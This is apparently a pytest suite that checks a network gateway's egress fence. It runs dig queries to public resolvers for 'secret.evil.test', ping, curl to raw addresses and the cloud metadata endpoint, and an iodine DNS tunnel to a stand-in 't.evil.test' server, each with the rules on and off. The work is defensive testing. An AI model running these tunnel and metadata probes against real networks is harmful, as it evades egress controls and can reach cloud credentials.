"""What people have at hand: dig, ping, curl, and iodine, which carries IP over DNS. Each finds its way without the rules, so that it can fail."""
import contextlib
import os
import shutil
import subprocess
import tempfile

import pytest
from gateway import LONG, settled
from harness.client import curl
from harness.wait import seconds, wait_until

TUNNEL_SERVER = "198.51.100.53"
OPEN = pytest.mark.parametrize("fence", [True, False], ids=["behind the rules", "without them"])


@pytest.fixture(scope="module")
def exeat(gateway):
    with gateway.exeat() as running:
        yield running


@pytest.fixture(params=["redirect", "tproxy"])
def side(gateway, exeat, request):
    yield gateway.sides[request.param]
    for each in gateway.sides.values():
        gateway.inside.nft(each.rules(exeat.for_pods))


@pytest.fixture
def standing(gateway, side):
    """Calls for the rules to stand or to be away."""
    def stand(fence):
        if not fence:
            gateway.open_fence()
        gateway.tap.forget()
    return stand


def run(side, *argv):
    return side.pod.command(*argv, check=False, timeout=seconds(120))


@OPEN
@pytest.mark.parametrize("how", ["+notcp", "+tcp", "+ignore +bufsize=4096"])
def test_dig_asks_no_public_resolver(gateway, side, standing, fence, how):
    standing(fence)
    said = run(side, "dig", "+time=1" if fence else "+time=20", "+tries=1", "+short", *how.split(), "@8.8.8.8", "secret.evil.test", "A").stdout.strip()
    assert said.startswith("198.51.") is not fence
    assert bool(settled(gateway.tap)) is not fence


def test_dig_learns_nothing_from_the_closed_resolver(gateway, side, standing):
    standing(True)
    asked = lambda name, kind: run(side, "dig", "+time=20", "+tries=3", "+short", f"@{side.four}", name, kind).stdout.split()
    assert asked("site.test", "A") == asked("secret.evil.test", "A") == asked("no.such.name", "A") == ["192.0.2.1"]
    assert [asked("site.test", kind) for kind in ("AAAA", "TXT", "MX", "NULL", "SRV")] == [[]] * 5
    assert settled(gateway.tap) == set()


@OPEN
@pytest.mark.parametrize("address", ["8.8.8.8", "2001:4860:4860::8888"])
def test_ping_finds_nobody(gateway, side, standing, fence, address):
    standing(fence)
    done = run(side, "ping", "-n", "-c", "1", "-W", "2" if fence else "20", address)
    assert (done.returncode == 0) is not fence and bool(settled(gateway.tap)) is not fence


@OPEN
@pytest.mark.parametrize("url", ["http://93.184.216.99.evil.test/", "https://8.8.8.8/", "http://[2001:4860:4860::8888]/", "telnet://8.8.8.8:22", "http://169.254.169.254/latest/meta-data/"])
def test_curl_gets_nowhere_by_an_address(gateway, side, standing, fence, url):
    standing(fence)
    done = curl("--resolve", "93.184.216.99.evil.test:80:8.8.4.4", "--insecure", "--max-time", "20", url, namespace=side.pod)
    assert done.returncode != 28 or not fence, "a refusal is told, not waited for"
    assert bool(settled(gateway.tap)) is not fence, f"{side.via}: {done}"
    assert b"hello" not in (done.stdout if fence else b"")


@contextlib.contextmanager
def iodine_server(gateway):
    gateway.world.ip(f"addr replace {TUNNEL_SERVER}/32 dev lo")
    server = gateway.world.start("iodined", "-f", "-c", "-P", "secret", "-l", TUNNEL_SERVER, "10.53.0.1/24", "t.evil.test", stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        assert any("Listening to dns" in line for line in server.stdout)
        yield
    finally:
        server.terminate()
        server.wait(seconds(60))


def tunnel_stands(side, resolver):
    """Whether iodine logs in at its server through `resolver`; it is stopped then, or once it has asked three times in vain."""
    with tempfile.TemporaryFile("w+") as said:
        client = side.pod.start("iodine", "-f", "-r", "-I1", "-TNULL", "-P", "secret", resolver, "t.evil.test", stdout=said, stderr=subprocess.STDOUT)

        def words():
            said.seek(0)
            return said.read()

        up = lambda: "Server tunnel IP is" in words()
        wait_until(lambda: up() or words().count("Retrying") > 2 or client.poll() is not None, 180, "iodine has a tunnel or has given up")
        stands = up()
        client.kill()
        client.wait(seconds(60))
        return stands


@pytest.mark.parametrize("side", ["redirect", "tproxy"] if LONG else ["redirect"], indirect=True)
@pytest.mark.parametrize("fence, through", [(True, "server"), (True, "resolver"), (False, "server")], ids=["to its server", "by the pod's resolver", "without the rules"])
def test_iodine_makes_no_tunnel(gateway, side, standing, fence, through):
    if not shutil.which("iodined") or not os.path.exists("/dev/net/tun"):
        pytest.skip("skipped: iodine or /dev/net/tun is not there; the probe's DNS questions stand for it")
    standing(fence)
    with iodine_server(gateway):
        assert tunnel_stands(side, TUNNEL_SERVER if through == "server" else side.four) is not fence
    assert bool(settled(gateway.tap)) is not fence
